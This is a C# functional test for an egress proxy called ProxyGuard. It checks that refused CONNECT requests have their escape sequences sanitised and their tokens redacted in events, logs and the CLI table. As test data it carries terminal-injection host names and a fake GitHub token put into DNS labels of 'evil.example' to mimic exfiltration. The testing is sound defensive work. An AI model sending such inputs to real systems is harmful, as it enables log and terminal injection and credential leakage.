using System.Text;
using ProxyGuard.FunctionalTests.AntiBypass;
using ProxyGuard.FunctionalTests.Infrastructure;

namespace ProxyGuard.FunctionalTests.Adversarial;

/// <summary>
/// Issue 20, class 4: what the sandbox shapes (a CONNECT host before it is normalised, on the 407 and bad-host paths)
/// reaches the events, the log and the `proxyguard events` table only sanitised (no terminal escape sequence, no
/// control character) and redacted (a token in a host name is not stored).
/// </summary>
[Collection("proxy")]
public sealed class SandboxShapedTextTests
{
    private const string Token = "pg-test-shaped-token-0123456789";

    [Fact]
    public async Task Escape_sequences_and_tokens_in_refused_connect_hosts_are_neither_stored_nor_printed()
    {
        using var dir = new TempDir();
        await using var proxy = await ProxyProcess.StartAsync(dir.File("proxy"), """
            version: 1
            default: deny
            clients:
              - id: agent-1
                token: env:PG_TEST_SHAPED_TOKEN
            rules:
              - name: allowed
                hosts: [allowed.example]
                action: allow
            """, null, new Dictionary<string, string> { ["PG_TEST_SHAPED_TOKEN"] = Token });
        var github = "ghp_" + new string('a', 18) + new string('B', 18);
        var credentials = "Proxy-Authorization: Basic " + Convert.ToBase64String(Encoding.UTF8.GetBytes("agent-1:" + Token)) + "\r\n";
        string[] heads =
        [
            $"CONNECT {github}.evil.example:443 HTTP/1.1\r\n\r\n",                       // 407, token in the host
            "CONNECT a\u001b[2J\u001b]0;pwned\u0007b.example:443 HTTP/1.1\r\n\r\n",     // 407, escape sequences
            $"CONNECT a\u001b[31mred\u001b[0mb.example:443 HTTP/1.1\r\n{credentials}\r\n", // bad host (authenticated)
            $"CONNECT {github}.evil.example:443 HTTP/1.1\r\n{credentials}\r\n",          // a credential in DNS labels
        ];
        foreach (var head in heads)
        {
            await using var connection = await RawConnection.OpenAsync(proxy.ProxyUrl);
            await connection.SendAsync(Encoding.Latin1.GetBytes(head));
            var response = await connection.ReadAvailableAsync();
            Assert.StartsWith("HTTP/1.1 4", response, StringComparison.Ordinal);
            Assert.DoesNotContain("\u001b", response, StringComparison.Ordinal);
        }

        var events = await PollAsync(async () => (await proxy.EventsAsync()) is { Count: >= 4 } all ? all : null);
        var recorded = string.Join("\n", events.Select(e => e.GetProperty("host").GetString()));
        Assert.DoesNotContain("\u001b", recorded, StringComparison.Ordinal);
        Assert.DoesNotContain("\u009b", recorded, StringComparison.Ordinal);
        Assert.DoesNotContain("\u0007", recorded, StringComparison.Ordinal);
        Assert.DoesNotContain(github, recorded, StringComparison.Ordinal);
        Assert.Contains(events, e => e.GetProperty("host").GetString()!.Contains("\\x1b", StringComparison.Ordinal));

        var table = await Cli.RunProgramAsync("dotnet", [ProxyProcess.DllPath, "events", "--admin", proxy.AdminUrl, "--token", ProxyProcess.AdminToken],
            proxy.Directory, null);
        Assert.True(table.ExitCode == 0, table.All);
        Assert.Contains("bad-host", table.Stdout, StringComparison.Ordinal);
        foreach (var control in new[] { "\u001b", "\u009b", "\u0007" })
        {
            Assert.DoesNotContain(control, table.Stdout, StringComparison.Ordinal);
            Assert.DoesNotContain(control, proxy.Output, StringComparison.Ordinal);
        }

        Assert.DoesNotContain(github, table.Stdout, StringComparison.Ordinal);
        Assert.DoesNotContain(github, proxy.Output, StringComparison.Ordinal);
    }

    private static async Task<T> PollAsync<T>(Func<Task<T?>> probe)
        where T : class
    {
        for (var i = 0; i < 100; i++)
        {
            if (await probe() is { } value)
            {
                return value;
            }

            await Task.Delay(100);
        }

        throw new TimeoutException("condition not reached in 10 s");
    }
}
